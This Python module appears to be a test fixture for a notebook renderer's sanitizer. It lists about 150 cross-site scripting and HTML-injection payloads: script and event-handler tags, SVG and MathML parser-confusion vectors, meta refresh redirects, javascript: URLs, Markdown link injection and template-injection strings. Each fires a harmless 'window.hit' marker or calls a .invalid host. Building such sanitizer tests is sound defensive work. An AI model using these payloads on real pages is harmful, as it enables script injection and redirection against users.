"""Texts that try to act on a page: to run a script, to ask for an address, to leave, to hide what is there.

Each says in its number which one it was: a script sets `window.hit` to it, an address has it in the name of its host.
They stand in cells of Markdown, in outputs, in names, messages and captions.
"""

from __future__ import annotations

FRAGMENTS = r"""
<script>HIT</script>
<SCRIPT/x>HIT</SCRIPT>
<scr<script>ipt>HIT</scr</script>ipt>
<script src=URL></script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["URL"]}]}</script>
<script type=module>import "URL"</script>
<noscript><p title="</noscript><img src=x onerror=HIT>"></noscript>
<img src=x onerror=HIT>
<img src=URL>
<img/src=URL/onerror=HIT>
<img srcset="URL 1x" alt=x>
<img src="x" onerror="HIT" alt='<h1>' title="<h1>">
<img src=data:image/svg+xml,%3Csvg/onload=HIT%3E>
<img src="attachment:a" srcset=URL onload=HIT>
<image src=URL onerror=HIT>
<img src='attachment:x" onerror="HIT' alt='" onerror="HIT'>
<img alt="<img src=URL onerror=HIT>" src=attachment:none>
<img alt='<h1 x="><meta http-equiv=refresh content="0;url=URL">'>
<picture><source srcset=URL><img src=x onerror=HIT></picture>
<video src=URL poster=URL autoplay onerror=HIT></video>
<video><source onerror=HIT src=URL></video>
<audio src=URL autoplay onerror=HIT></audio>
<track src=URL onerror=HIT>
<svg onload=HIT></svg>
<svg><script>HIT</script></svg>
<svg><script href=URL /></svg>
<svg><a xlink:href="javascript:HIT"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='HIT'/></svg>#x">
<svg><animate onbegin=HIT attributeName=x dur=1s></svg>
<svg><a><animate attributeName=href values=javascript:HIT /><text>x</text></a></svg>
<svg><set attributeName=onmouseover to=HIT></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.HIT</script>"></iframe></foreignObject></svg>
<svg><image href=URL onerror=HIT></svg>
<svg><style><img src=x onerror=HIT></style></svg>
<svg></p><style><a title="</style><img src=x onerror=HIT>">
<svg><desc><noscript></noscript></desc><style><a id="</style><img src=x onerror=HIT>"></style></svg>
<svg><title><style></title><img src=x onerror=HIT></style>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HIT&gt;">
<math><mtext><mglyph><style><img src=x onerror=HIT></style></mglyph></mtext></math>
<math><mi><malignmark><table><img src=x onerror=HIT></table></malignmark></mi></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=HIT></style></annotation-xml></math>
<math><annotation-xml><svg><script>HIT</script></svg></annotation-xml></math>
<math href="javascript:HIT"><mi href="javascript:HIT" xlink:href="javascript:HIT">x</mi></math>
<math><maction actiontype="statusline#URL" xlink:href="javascript:HIT">x</maction></math>
<math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>
<math><mspace width="99999em" height="99999em"></mspace><mi style="position:fixed;inset:0">x</mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=HIT>
<form action=URL><input autofocus onfocus=HIT><button>x</button></form>
<form id=f action="javascript:HIT"><input type=submit autofocus></form><button form=f formaction="javascript:HIT">x</button>
<input autofocus onfocus=HIT onblur=HIT>
<input type=image src=URL>
<select autofocus onfocus=HIT><option>x</select>
<textarea autofocus onfocus=HIT></textarea><textarea><img title="</textarea><img src=x onerror=HIT>">
<keygen autofocus onfocus=HIT>
<button popovertarget=p onclick=HIT>x</button><div popover id=p onbeforetoggle=HIT>x</div>
<dialog open onclose=HIT>over everything</dialog>
<details open ontoggle=HIT><summary onclick=HIT>more</summary>x</details>
<marquee onstart=HIT behavior=alternate>x</marquee>
<body onload=HIT onpageshow=HIT background=URL>
<html onclick=HIT manifest=URL>
<head><base href=URL></head>
<base href=URL target=_blank>
<meta http-equiv=refresh content="0;url=URL">
<META HTTP-EQUIV="Refresh" CONTENT="0; URL='javascript:HIT'">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>HIT</script>">
<table><meta http-equiv=refresh content=0;url=URL></table>
<svg><meta http-equiv=refresh content=0;url=URL></svg>
<select><meta http-equiv=refresh content=0;url=URL></select>
<template><meta http-equiv=refresh content=0;url=URL></template>
<template shadowrootmode=open><meta http-equiv=refresh content=0;url=URL><script>HIT</script></template>
<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style><img src=URL></template></div>
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv=set-cookie content="a=b">
<link rel=stylesheet href=URL><link rel=prefetch href=URL><link rel=preload as=image href=URL><link rel=icon href=URL>
<link rel=dns-prefetch href=URL><link rel=preconnect href=URL><link rel=prerender href=URL><link rel=manifest href=URL>
<link rel=import href=URL><link rel=modulepreload href=URL><link rel=expect blocking=render href="#never">
<style>@import "URL"; body { display: none; background: url(URL) }</style>
<style><style/><img src=x onerror=HIT>
<style>*{}</style><p style="position:fixed;inset:0;background:url(URL)" class="chip wrong" id=questions>over</p>
<iframe src=URL></iframe><iframe src="javascript:parent.HIT"></iframe>
<iframe srcdoc="<meta http-equiv=refresh content=0;url=URL><script>parent.HIT</script>"></iframe>
<frameset onload=HIT><frame src=URL></frameset>
<object data=URL type=text/html></object><object data="javascript:HIT"></object>
<object><param name=movie value=URL><embed src=URL></object><embed src="javascript:HIT"><applet code=URL archive=URL></applet>
<portal src=URL></portal><fencedframe src=URL></fencedframe><webview src=URL></webview>
<bgsound src=URL><table background=URL><td background=URL></table><tr background=URL>
<xmp><img src=x onerror=HIT></xmp><noembed><img src=x onerror=HIT></noembed><noframes><img src=x onerror=HIT></noframes>
<title><img src=x onerror=HIT></title><plaintext><img src=x onerror=HIT>
<a href="javascript:HIT" onclick=HIT accesskey=x target=_top ping=URL download>x</a>
<a href="JaVaScRiPt&colon;HIT">x</a> <a href=" &#14; javascript:HIT">x</a> <a href="java&Tab;script:HIT">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;HIT">x</a> <a href="javascript&#0;:HIT">x</a>
<a href="data:text/html,<script>HIT</script>">x</a> <a href="vbscript:x">x</a> <a href="blob:URL">x</a> <a href=file:///etc/passwd>x</a>
<a href="//x.invalid/a">x</a> <a href="/\x.invalid">x</a> <a href="\\x.invalid\a">x</a> <a href="?a">x</a> <a href="#questions">x</a>
<a href="https://e.invalid/<h1>">x</a> <a href='https://e.invalid/</h1><meta http-equiv=refresh content="0;url=URL">'>x</a>
<a href='https://e.invalid/<img src="'>x</a><b>"><meta http-equiv=refresh content=0;url=URL></b>
<a title='<h1><img src="' href="https://e.invalid/">x</a></h1>"><img src=x onerror=HIT>
<a href='https://e.invalid/<h1 '>x</a> <a href='https://e.invalid/> onmouseover=HIT style=position:fixed;inset:0 '>x</a></h1>
<a title='<span class="math">$$' href="https://e.invalid/$$</span>">x</a><img alt="$$ onerror=HIT x=$$" src=x>
<a href='https://e.invalid/<img '>x</a> <a href='https://e.invalid/><meta http-equiv=refresh content=0;url=URL>'>x</a>
<map name=m><area shape=default href="javascript:HIT" ping=URL></map><img usemap="#m" src=x>
<b onclick=HIT onmouseover=HIT onfocus=HIT tabindex=1 contenteditable autofocus>x</b><b <script>HIT</script>>x</b>
<div class=math onmouseover=HIT>$</div><span class="math"><script>HIT</script></span><h1 onclick=HIT class=score>x</h1>
<h1 <img src=x onerror=HIT>>x</h1 onclick=HIT> <h2/onload=HIT/>x</h2> <h1><h2><script>HIT</script></h1></h2>
<ol start="1 onclick=HIT"><li value=1 onclick=HIT>x</ol><th></th><th onclick=HIT></th>
<!--><img src=x onerror=HIT>--> <!--!><img src=x onerror=HIT>--> <!-- --!><img src=x onerror=HIT> <!-->
<![CDATA[<img src=x onerror=HIT>]]> <?xml-stylesheet href="URL"?> <!DOCTYPE x SYSTEM "URL"> <?php <img src=x onerror=HIT> ?>
</main></body></html><script>HIT</script>
</pre></code></p></li></ul></blockquote></table></div></section></main><script>HIT</script>
</title></style></textarea></noscript></template></select></svg></math><img src=x onerror=HIT>
<p id=cell-1 name=cookie><a id=questions name=questions href=mailto:a@e.invalid?subject=<script>HIT</script>>x</a>
<isindex action="javascript:HIT" prompt=x><menuitem icon=URL onclick=HIT><nextid n=1><command icon=URL>
<x-y onclick=HIT><slot onslotchange=HIT></slot><custom is="x" onfocus=HIT tabindex=1 autofocus></custom>
[a](javascript:HIT) [b](JaVaScRiPt&#58;HIT) [c](<javascript:HIT>) [d](data:text/html,<script>HIT</script>) <javascript:HIT>
[a](https://e.invalid/"onmouseover="HIT) [b](https://e.invalid "t\" onmouseover=\"HIT") [c](<https://e.invalid/ x" onclick="HIT>)
![a](URL) ![b](URL "t") ![c](attachment:x"onerror="HIT) ![<img src=x onerror=HIT>](attachment:none) ![d](javascript:HIT)
![![![a](URL)](URL)](attachment:none) [![b](URL)](URL) ![a][r] [b][r]
# <script>HIT</script> # <h1 onclick=HIT>x</h1> <meta http-equiv=refresh content=0;url=URL>
$"><script>HIT</script>$ $\text{<img src=x onerror=HIT>}$ $\begin{pmatrix}<script>HIT</script>\end{pmatrix}$
$$</div><meta http-equiv=refresh content=0;url=URL>$$ <b title="$</span><img src=x onerror=HIT>$">x</b> $\href{javascript:HIT}{x}$
`</code><script>HIT</script>` `` ` <img src=x onerror=HIT> `` ~~<svg onload=HIT>~~ **<img src=x onerror=HIT>**
<https://e.invalid/"onmouseover="HIT"> <a@e.invalid"onmouseover="HIT"> https://e.invalid/"onmouseover="HIT
| a | <script>HIT</script> |
&lt;script&gt;HIT&lt;/script&gt; &#60;img src=x onerror=HIT&#62; &amp;lt;script&amp;gt;HIT&amp;lt;/script&amp;gt;
{{ HIT }} {% include "/etc/passwd" %} {{ "".__class__ }} ${HIT} <%= HIT %> [[ HIT ]] {# #}
"><script>HIT</script> '><img src=x onerror=HIT> "onmouseover="HIT" x=" 'onfocus='HIT' autofocus x='
"""  # noqa: E501
LINES = r"""
[r]: javascript:HIT "<img src=x onerror=HIT>"~[a][r] ![a][r]
[r]: URL 'x" onmouseover="HIT'~[a][r] ![a][r] [r]
```"><script>HIT</script>~x~```
```python onclick=HIT~</code></pre><img src=x onerror=HIT>~```
| a | b |~|---|:-:|~| <img src=x onerror=HIT> | </table><script>HIT</script> |
<div>~~<script>HIT</script>~~</div></div></div>~# </main>
<table><tr><td>~~<meta http-equiv=refresh content=0;url=URL>~~</table>
> <blockquote>~> </blockquote></blockquote></div><script>HIT</script>
- <ul><li>~  </ul></ul></main><img src=x onerror=HIT>
$$~</div><script>HIT</script>~$$
<pre>~$$~</pre><img src=x onerror=HIT>~$$
<style>~~* { display: none }~~</style>
<!--~~<img src=x onerror=HIT>~~-->
<script>~~HIT~~</script>
"""


def texts() -> list[str]:
    """All of them."""
    found = FRAGMENTS.strip().split("\n") + [text.replace("~", "\n") for text in LINES.strip().split("\n")]
    return [
        text.replace("HIT", f"window.hit={n}").replace("URL", f"http://hit{n}.invalid/a")
        for n, text in enumerate(found)
    ]
